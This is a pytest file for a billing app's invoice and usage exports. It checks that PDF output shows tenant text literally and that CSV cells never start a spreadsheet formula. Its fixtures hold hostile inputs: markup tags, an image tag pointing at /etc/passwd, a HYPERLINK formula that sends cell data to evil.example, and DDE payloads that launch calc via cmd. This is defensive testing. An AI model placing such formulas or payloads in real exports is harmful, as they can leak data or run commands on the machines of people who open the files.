"""Tenant text in exports is data, never markup nor formulas: a PDF shows it literally (in
fonts that have its characters, embedded), a CSV cell never starts a spreadsheet formula."""

import csv
import io
import json

import pytest
from pypdf import PdfReader

from billing import exports
from billing.models import Invoice

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    "Acme <b>bold",
    "x</para>",
    '<img src="/etc/passwd"/>',
    '<img src="/usr/share/pixmaps/debian-logo.png" width="100" height="100"/>',
    '<font name="Courier" size="40">big</font>',
    '<a href="https://evil.example/">click</a>',
    "Tom & Jerry &amp; &lt;b&gt;",
    "<para><br/>",
]
# Formula triggers per OWASP: = + - @ tab and carriage return.
HOSTILE_CELLS = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NON_LATIN_NAMES = ["株式会社アクメ", "Ромашка Лтд", "Ελληνική Εταιρεία", "Łódź Spółka", "한국 회사"]


def _words(text: str) -> str:
    """The text with its white space as single spaces (a table cell wraps long lines)."""
    return " ".join(text.split())


def _pdf_text(invoice: Invoice) -> str:
    reader = PdfReader(io.BytesIO(exports.invoice_pdf(invoice)))
    return _words("".join(page.extract_text() for page in reader.pages))


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_the_pdf_shows_a_hostile_organization_name_literally(invoice, acme, name):
    acme.name = name
    acme.save()
    invoice.refresh_from_db()
    assert _words(name) in _pdf_text(invoice)


@pytest.mark.parametrize("description", HOSTILE_NAMES)
def test_the_pdf_shows_a_hostile_line_description_literally(invoice, description):
    invoice.lines.update(description=description)
    assert _words(description) in _pdf_text(invoice)


def test_the_pdf_never_opens_a_file_a_name_points_to(invoice, acme, tmp_path):
    image = tmp_path / "secret.png"
    image.write_bytes(b"not an image: reading it as one fails the export")
    acme.name = f'<img src="{image}"/>'
    acme.save()
    invoice.refresh_from_db()
    # A long path may be wrapped anywhere: compared without white space.
    assert "".join(acme.name.split()) in _pdf_text(invoice).replace(" ", "")


@pytest.mark.parametrize("name", NON_LATIN_NAMES)
def test_the_pdf_shows_a_non_latin_organization_name(invoice, acme, name):
    acme.name = name
    acme.save()
    invoice.refresh_from_db()
    assert _words(name) in _pdf_text(invoice)


def test_the_pdf_embeds_the_fonts_of_its_text(invoice, acme):
    acme.name = NON_LATIN_NAMES[0]
    acme.save()
    invoice.refresh_from_db()
    reader = PdfReader(io.BytesIO(exports.invoice_pdf(invoice)))
    fonts = reader.pages[0]["/Resources"]["/Font"]
    embedded = [
        font.get_object()
        for font in fonts.values()
        if "/FontFile2" in font.get_object().get("/FontDescriptor", {})
    ]
    assert embedded, "no embedded TrueType font"


@pytest.mark.parametrize("cell", HOSTILE_CELLS)
def test_the_invoice_csv_never_starts_a_cell_with_a_formula(invoice, cell):
    invoice.lines.update(description=cell)
    [row] = csv.DictReader(io.StringIO(exports.invoice_csv(invoice)))
    assert row["description"] == "'" + cell


@pytest.mark.parametrize("cell", HOSTILE_CELLS)
def test_the_months_csv_never_starts_a_cell_with_a_formula(invoice, cell):
    invoice.lines.update(description=cell)
    [row] = csv.DictReader(io.StringIO(exports.month_csv(Invoice.objects.all())))
    assert row["description"] == "'" + cell


@pytest.mark.parametrize("cell", HOSTILE_CELLS)
def test_the_usage_csv_never_starts_a_cell_with_a_formula(cell):
    usage = {
        "day": "2026-12-01",
        "gpu_class": cell,
        "mig_profile": "",
        "tier": cell,
        "project": cell,
        "gpu_hours": "1.0000",
        "cost": None,
    }
    [row] = csv.DictReader(io.StringIO(exports.usage_csv([usage])))
    assert (row["gpu_class"], row["tier"], row["project"]) == ("'" + cell,) * 3


def test_a_negative_amount_stays_a_number_in_the_csv(invoice):
    invoice.lines.update(amount=-12.5)
    [row] = csv.DictReader(io.StringIO(exports.invoice_csv(invoice)))
    assert row["amount"] == "-12.50"


@pytest.mark.parametrize("name", HOSTILE_NAMES + HOSTILE_CELLS)
def test_the_json_carries_a_hostile_description_unchanged(invoice, name):
    invoice.lines.update(description=name)
    [line] = json.loads(json.dumps(exports.invoice_json(invoice)))["lines"]
    assert line["description"] == name
